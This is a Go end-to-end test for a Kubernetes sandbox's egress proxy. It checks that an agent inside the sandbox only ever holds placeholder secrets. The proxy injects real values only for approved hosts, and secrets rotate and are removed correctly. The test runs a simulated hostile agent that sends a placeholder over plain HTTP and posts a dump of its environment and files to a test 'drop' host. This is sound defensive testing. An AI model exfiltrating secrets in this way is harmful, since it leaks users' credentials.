package e2e

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sbxhq/sbx/driver"
	"github.com/sbxhq/sbx/driver/kubernetes"
	"github.com/sbxhq/sbx/egress"
	"github.com/sbxhq/sbx/internal/fixture"
	"github.com/sbxhq/sbx/internal/k8stest"
	"github.com/sbxhq/sbx/internal/secretpeer"
	"github.com/sbxhq/sbx/netlog"
)

// TestSecretsStayOutside plays, on the cluster, an agent that wants a
// secret that names its hosts: the sandbox holds a placeholder only, its
// egress proxy (a pod) adds the value for that host only, over TLS it
// terminates with the sandbox's CA, and verifies the host with the roots
// sbx's host trusts, which it gets with the secrets (its image has none).
//
// The upstreams are secretpeer serve (test/hostile) in pods of the test's
// own, each its own address: api (the secret's host), drop (another
// allowed host, HTTPS and plain HTTP) and rogue (a secret's host whose
// certificate comes from a CA the proxy does not trust). sbx's host trusts
// the test's CA through SSL_CERT_FILE. In the sandbox, secretpeer attack
// calls api with the placeholder, sends it to drop in plain HTTP, calls
// rogue, and posts to drop a dump of its environment, every process's
// and every small file of the pod. Then the value changes and the agent
// calls again: the new value arrives, in the same pods. Then the secret
// goes: the placeholder it kept is only a placeholder again.
func TestSecretsStayOutside(t *testing.T) {
	t.Parallel()
	c := newCluster(t)
	c.enforce()
	const value1, value2 = "sk-real-Value-one-k8s-61d0", "sk-real-Value-two-k8s-a4e9"
	peer := buildPeer(t)
	// The test's CA certifies api and drop, and sbx's host trusts it;
	// another CA certifies rogue.
	peerCA, err := fixture.NewCA("sbx test upstream CA")
	if err != nil {
		t.Fatal(err)
	}
	rogueCA, err := fixture.NewCA("sbx test rogue CA")
	if err != nil {
		t.Fatal(err)
	}
	ips := c.peers(peer, []peerPod{{"peer-api", peerCA}, {"peer-drop", peerCA}, {"peer-rogue", rogueCA}})
	api, drop, rogue := ips[0], ips[1], ips[2]
	roots := filepath.Join(t.TempDir(), "roots.pem")
	if err := os.WriteFile(roots, peerCA.CertPEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	d, trace := c.tracedDriver("SSL_CERT_FILE=" + roots)
	b := k8stest.NewBox(t, d, "secrets")
	b.MustApply(b.Spec(c.Head() + fmt.Sprintf("network:\n  agentHosts: false\n  blockCIDRs: [127.0.0.0/8]\n  allow: [\"%s:8443\", \"%s:8443\", \"%s:8080\", \"%s:8443\"]\n", api, drop, drop, rogue)))

	ca, err := egress.NewCA(b.Name)
	if err != nil {
		t.Fatal(err)
	}
	caPEM, err := ca.MarshalPEM()
	if err != nil {
		t.Fatal(err)
	}
	keyBlock, _ := pem.Decode(caPEM[len(ca.CertPEM()):])
	if keyBlock == nil || !strings.Contains(keyBlock.Type, "PRIVATE KEY") {
		t.Fatalf("the CA's PEM has no key after its certificate")
	}
	// The key's first 48 base64 characters: in any PEM copy of it.
	key := base64.StdEncoding.EncodeToString(keyBlock.Bytes)[:48]
	placeholder, roguePlaceholder := "sbx-test-placeholder-"+k8stest.RunID, "sbx-test-rogue-placeholder-"+k8stest.RunID
	set := func(value string) map[string]string {
		t.Helper()
		env, err := d.SetSecrets(context.Background(), b.Name, caPEM, []driver.ProxySecret{
			{Name: "KEY", Placeholder: placeholder, Value: value, Hosts: []string{api + ":8443"}},
			{Name: "ROGUE_KEY", Placeholder: roguePlaceholder, Value: value, Hosts: []string{rogue + ":8443"}},
		})
		if err != nil {
			t.Fatalf("SetSecrets: %v", err)
		}
		return env
	}
	env := set(value1)
	if env["KEY"] != placeholder || env["SSL_CERT_FILE"] != kubernetes.TrustDir+"/"+egress.TrustBundle {
		t.Errorf("the env of each exec: %v, want the placeholder and the trust variables", env)
	}
	for k, v := range env {
		if strings.Contains(v, value1) {
			t.Errorf("the env of each exec holds the value in %s", k)
		}
	}
	if code, out := b.Sh(`printf '%s' "$KEY"`, env); code != 0 || out != placeholder {
		t.Errorf("$KEY in the sandbox: %d %q, want the placeholder", code, out)
	}
	// A file secret's copy (placeholders only) is written by sbx's helper
	// in the pod, 0600, its directory made.
	fileCopy := `{"OPENAI_API_KEY": "` + placeholder + `"}`
	if err := d.WriteSecretFile(context.Background(), b.Name, "", "/tmp/sbx-file/auth.json", []byte(fileCopy)); err != nil {
		t.Fatalf("WriteSecretFile: %v", err)
	}
	if code, out := b.Sh(`stat -c %a /tmp/sbx-file/auth.json && cat /tmp/sbx-file/auth.json`, nil); code != 0 || out != "600\n"+fileCopy {
		t.Errorf("the file secret in the pod: %d %q, want mode 600 and the copy", code, out)
	}
	bin, err := os.Open(peer)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	code, err := d.Exec(context.Background(), b.Name, []string{"sh", "-c", "cat > /tmp/secretpeer && chmod +x /tmp/secretpeer"}, driver.ExecOptions{Stdin: bin, Stdout: &out, Stderr: &out})
	bin.Close()
	if err != nil || code != 0 {
		t.Fatalf("copying secretpeer into the sandbox: %d %v %s", code, err, out.String())
	}
	attack := func(env map[string]string, flags ...string) secretpeer.Report {
		t.Helper()
		code, out := b.Sh(fmt.Sprintf("/tmp/secretpeer attack %s -key-env KEY -report /tmp/report.json -api https://%s:8443/ -drop https://%s:8443/ -plain http://%s:8080/ -rogue https://%s:8443/ && cat /tmp/report.json",
			strings.Join(flags, " "), api, drop, drop, rogue), env)
		var rep secretpeer.Report
		if err := json.Unmarshal([]byte(out), &rep); code != 0 || err != nil {
			t.Fatalf("secretpeer attack: exit %d, %v\n%s", code, err, out)
		}
		return rep
	}
	pods := func() string {
		t.Helper()
		return c.Kubectl(t, "-n", c.NS, "get", "pod/"+kubernetes.SandboxPodName(b.Name), "pod/"+kubernetes.EgressPodName(b.Name), "-o", "jsonpath={.items[*].metadata.uid}")
	}
	before := pods()

	rep := attack(env)
	// The secret's host got the value, through TLS the proxy terminated
	// (the sandbox was shown its CA, which it trusts); the other host's
	// TLS is the upstream's own (a tunnel).
	if rep.API.Status != 200 || !strings.HasPrefix(rep.API.Issuer, "sbx sandbox ") {
		t.Errorf("the secret's host: %+v, want 200 through the sandbox's CA", rep.API)
	}
	if rep.Drop.Status != 200 || rep.Drop.Issuer != peerCA.Cert.Subject.CommonName {
		t.Errorf("the other host: %+v, want 200 with the upstream's own certificate (a tunnel)", rep.Drop)
	}
	if rep.Plain.Status != 403 {
		t.Errorf("the placeholder sent in plain HTTP to another host: %+v, want 403", rep.Plain)
	}
	// The proxy verifies with the roots it was sent, and those only.
	if rep.Rogue.Status != 502 && rep.Rogue.Error == "" {
		t.Errorf("a secret's host with an unverifiable certificate: %+v, want refused", rep.Rogue)
	}
	if len(rep.KeyFiles) > 0 || rep.KeyInEnv {
		t.Errorf("a private key in the sandbox: files %v, env %v", rep.KeyFiles, rep.KeyInEnv)
	}
	reqs := c.peerRequests("peer-api", "peer-drop", "peer-rogue")
	// The dump holds the agent's environment: the placeholder.
	dumped := func(body string) bool { return len(body) > 1000 && strings.Contains(body, placeholder) }
	secretpeer.Check(t, reqs, value1, dumped, key)
	denied := false
	if err := d.NetLog(context.Background(), b.Name, false, func(e netlog.Entry) error {
		denied = denied || e.Decision == "deny" && strings.Contains(e.Reason, "placeholder of secret KEY")
		return nil
	}); err != nil || !denied {
		t.Errorf("the proxy's log does not say it refused the placeholder: %v", err)
	}

	t.Run("the value and the CA's key are in no object, log or trace", func(t *testing.T) {
		var all strings.Builder
		all.WriteString(c.Kubectl(t, "-n", c.NS, "get", "-o", "yaml",
			"all,secrets,configmaps,events,sandboxes.agents.x-k8s.io,networkpolicies.networking.k8s.io,persistentvolumeclaims"))
		for _, pod := range []string{kubernetes.SandboxPodName(b.Name), kubernetes.EgressPodName(b.Name)} {
			all.WriteString(c.Kubectl(t, "-n", c.NS, "logs", "pod/"+pod, "--all-containers"))
		}
		if !strings.Contains(all.String(), kubernetes.EgressPodName(b.Name)) {
			t.Fatalf("the listing does not hold the sandbox's objects: %.300s", all.String())
		}
		for what, s := range map[string]string{"the namespace's objects and the sandbox's logs": all.String(), "the driver's trace": trace.String()} {
			for _, secret := range []string{value1, key, "PRIVATE KEY"} {
				if strings.Contains(s, secret) {
					t.Errorf("%s hold %q", what, secret)
				}
			}
		}
		if !strings.Contains(trace.String(), "attach -i "+kubernetes.EgressPodName(b.Name)) {
			t.Errorf("the trace has no control request: %.500s", trace.String())
		}
	})

	t.Run("rotation in place", func(t *testing.T) {
		env := set(value2)
		if rep := attack(env); rep.API.Status != 200 {
			t.Errorf("the secret's host after rotation: %+v", rep.API)
		}
		secretpeer.Check(t, since(reqs, c.peerRequests("peer-api", "peer-drop", "peer-rogue")), value2, dumped, key)
		if after := pods(); after != before {
			t.Errorf("the pods were recreated to rotate the value: %s, then %s", before, after)
		}
	})

	// The session hands over no secrets once the file has none left: the
	// proxy drops them, and the placeholder the agent kept gets it
	// nothing but a tunnel.
	t.Run("removal", func(t *testing.T) {
		env, err := d.SetSecrets(context.Background(), b.Name, nil, nil)
		if err != nil || len(env) != 0 {
			t.Fatalf("SetSecrets of none: %v, env %v", err, env)
		}
		before := c.peerRequests("peer-api", "peer-drop", "peer-rogue")
		if rep := attack(nil, "-trust-all", "-key", placeholder); rep.API.Status != 200 || rep.API.Issuer != peerCA.Cert.Subject.CommonName {
			t.Errorf("the secret's host after the removal: %+v, want 200 through a tunnel", rep.API)
		}
		var kept bool
		for _, r := range since(before, c.peerRequests("peer-api", "peer-drop", "peer-rogue")) {
			all, _ := json.Marshal(r)
			if strings.Contains(string(all), value2) {
				t.Errorf("%s got the removed secret's value: %.300s", r.Role, all)
			}
			kept = kept || r.Role == "api" && strings.Join(r.Headers["Authorization"], "") == "Bearer "+placeholder
		}
		if !kept {
			t.Errorf("the secret's host did not get the kept placeholder as it was sent")
		}
	})
}

// buildPeer builds secretpeer, static, for the pods.
func buildPeer(t *testing.T) string {
	t.Helper()
	out := filepath.Join(t.TempDir(), "secretpeer")
	build := exec.Command("go", "build", "-o", out, "github.com/sbxhq/sbx/test/hostile/secretpeer")
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux")
	if msg, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building secretpeer: %v: %s", err, msg)
	}
	return out
}

// peerPod is an upstream of the test's: a pod, and the CA that
// certifies its address.
type peerPod struct {
	name string
	ca   *fixture.CA
}

// peers starts secretpeer serve in a busybox pod of the test's namespace
// for each peer, and returns their addresses. A pod waits for secretpeer
// and its certificate, which the test copies in once the pod has its
// address.
func (c *cluster) peers(binary string, peers []peerPod) []string {
	t := c.T
	t.Helper()
	var docs []string
	for _, p := range peers {
		docs = append(docs, fmt.Sprintf(`apiVersion: v1
kind: Pod
metadata: {name: %s, namespace: %s, labels: {dev.sbx.test: peer}}
spec:
  automountServiceAccountToken: false
  terminationGracePeriodSeconds: 1
  containers:
  - name: peer
    image: %s
    imagePullPolicy: Never
    command: [sh, -c, "until [ -e /tmp/peer/ready ]; do sleep 0.2; done; exec /tmp/peer/secretpeer serve -certs /tmp/peer"]
    readinessProbe: {tcpSocket: {port: 8443}, periodSeconds: 1}
`, p.name, c.NS, k8stest.BusyboxImage))
	}
	c.KubectlInput(t, strings.Join(docs, "---\n"), "create", "-f", "-")
	bin, err := os.ReadFile(binary)
	if err != nil {
		t.Fatal(err)
	}
	var ips []string
	for _, p := range peers {
		n := p.name
		c.Kubectl(t, "-n", c.NS, "wait", "--for=jsonpath={.status.phase}=Running", "pod/"+n, "--timeout=120s")
		ip := strings.TrimSpace(c.Kubectl(t, "-n", c.NS, "get", "pod", n, "-o", "jsonpath={.status.podIP}"))
		cert, key, err := p.ca.IssuePEM(ip)
		if err != nil {
			t.Fatal(err)
		}
		var tb bytes.Buffer
		tw := tar.NewWriter(&tb)
		for _, f := range []struct {
			name string
			mode int64
			data []byte
		}{{"peer/secretpeer", 0o755, bin}, {"peer/" + ip + ".pem", 0o644, cert}, {"peer/" + ip + ".key", 0o600, key}, {"peer/ready", 0o644, nil}} {
			tw.WriteHeader(&tar.Header{Name: f.name, Mode: f.mode, Size: int64(len(f.data)), Typeflag: tar.TypeReg})
			tw.Write(f.data)
		}
		tw.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		cmd := c.Command(ctx, "-n", c.NS, "exec", "-i", n, "-c", "peer", "--", "tar", "-x", "-C", "/tmp")
		cmd.Stdin = &tb
		out, err := cmd.CombinedOutput()
		cancel()
		if err != nil {
			t.Fatalf("copying secretpeer into %s: %v: %s", n, err, out)
		}
		ips = append(ips, ip)
	}
	for _, p := range peers {
		c.Kubectl(t, "-n", c.NS, "wait", "--for=condition=Ready", "pod/"+p.name, "--timeout=120s")
	}
	return ips
}

// peerRequests are the requests the pods got, pod by pod, oldest first.
func (c *cluster) peerRequests(pods ...string) []secretpeer.Request {
	c.T.Helper()
	var reqs []secretpeer.Request
	for _, p := range pods {
		// Its log is its stdout, one JSON line per request, and its
		// stderr (the readiness probe's handshakes that never were).
		for _, line := range strings.Split(c.Kubectl(c.T, "-n", c.NS, "logs", "pod/"+p), "\n") {
			r := secretpeer.Request{Role: strings.TrimPrefix(p, "peer-")}
			if json.Unmarshal([]byte(line), &r) == nil {
				reqs = append(reqs, r)
			}
		}
	}
	return reqs
}

// since is what each pod got in now after what it got in before.
func since(before, now []secretpeer.Request) []secretpeer.Request {
	seen := map[string]int{}
	for _, r := range before {
		seen[r.Role]++
	}
	var out []secretpeer.Request
	for _, r := range now {
		if seen[r.Role] > 0 {
			seen[r.Role]--
			continue
		}
		out = append(out, r)
	}
	return out
}
